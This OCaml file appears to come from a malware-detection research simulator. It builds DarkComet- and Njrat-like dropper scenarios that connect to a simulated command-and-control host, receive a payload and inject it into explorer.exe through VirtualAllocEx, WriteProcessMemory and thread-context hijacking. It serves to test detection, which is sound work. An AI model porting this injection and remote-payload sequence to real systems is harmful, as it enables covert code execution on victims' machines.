(* Code/process injection: DarkComet-like and Njrat-like RAT droppers
   (Section VI's "real-world code-injecting malware").

   Unlike the reflective client these call the injection APIs through the
   IAT — CreateProcessA / VirtualAllocEx / WriteProcessMemory are perfectly
   visible to a library-level monitor, and still nothing event-based flags
   the in-memory payload (Section VI-B's point: seeing the call is not
   detecting the attack). *)

open Faros_vm

let c2_ip = "169.254.26.161"

let injector_image ~name ~c2_port ~target_pid =
  Snapshot.image (Printf.sprintf "iat_injector/%s/%d/%d" name c2_port target_pid)
  @@ fun () ->
  let imports =
    [
      "socket";
      "connect";
      "recv";
      "VirtualAllocEx";
      "WriteProcessMemory";
      "SuspendThread";
      "SetThreadContext";
      "ResumeThread";
    ]
  in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_api ~ip:c2_ip ~port:c2_port;
        (* recv the length-prefixed payload through the hooked recv API *)
        [ Progs.movr Isa.r1 Isa.r7; Progs.lea_label Isa.r2 "lenbuf"; Progs.movi Isa.r3 4 ];
        Progs.call_api "recv";
        [ Progs.lea_label Isa.r5 "lenbuf"; Progs.i (Isa.Load (4, Isa.r5, Isa.based Isa.r5)) ];
        [ Progs.movr Isa.r1 Isa.r7; Progs.lea_label Isa.r2 "pbuf"; Progs.movr Isa.r3 Isa.r5 ];
        Progs.call_api "recv";
        (* VirtualAllocEx(target, len) *)
        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r5 ];
        Progs.call_api "VirtualAllocEx";
        [ Progs.i (Isa.Push Isa.r0) ];
        (* WriteProcessMemory(target, base, pbuf, len) *)
        [
          Progs.movi Isa.r1 target_pid;
          Progs.movr Isa.r2 Isa.r0;
          Asm.Mov_label (Isa.r3, "pbuf");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.call_api "WriteProcessMemory";
        [ Progs.movi Isa.r1 target_pid ];
        Progs.call_api "SuspendThread";
        [ Progs.movi Isa.r1 target_pid; Progs.i (Isa.Pop Isa.r2) ];
        Progs.call_api "SetThreadContext";
        [ Progs.movi Isa.r1 target_pid ];
        Progs.call_api "ResumeThread";
        [ Progs.halt ];
        [ Asm.Align 4 ];
        Progs.buffer "lenbuf" 4;
        Progs.buffer "pbuf" 4096;
      ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base ~imports items

let c2_actor ~port ~payload =
  {
    Faros_os.Netstack.actor_name = "c2";
    actor_ip = Faros_os.Types.Ip.of_string c2_ip;
    actor_port = port;
    on_connect = (fun _flow -> [ Progs.frame payload ]);
    on_data = (fun _flow _data -> []);
  }

let make ~family ~c2_port ?(scrub = false) () =
  let payload = Payloads.popup ~scrub ~text:(family ^ " owns you") () in
  let name = family ^ "_inject.exe" in
  Scenario.make (family ^ "_injection")
    ~images:
      [
        ("explorer.exe", Victims.explorer ());
        ( name,
          injector_image ~name ~c2_port
            ~target_pid:Attack_reflective.first_boot_pid );
      ]
    ~actors:[ c2_actor ~port:c2_port ~payload ]
    ~boot:[ "explorer.exe"; name ]

(* DarkComet's default port is 1604; Njrat's is 1177. *)
let darkcomet ?scrub () = make ~family:"darkcomet" ~c2_port:1604 ?scrub ()
let njrat () = make ~family:"njrat" ~c2_port:1177 ()
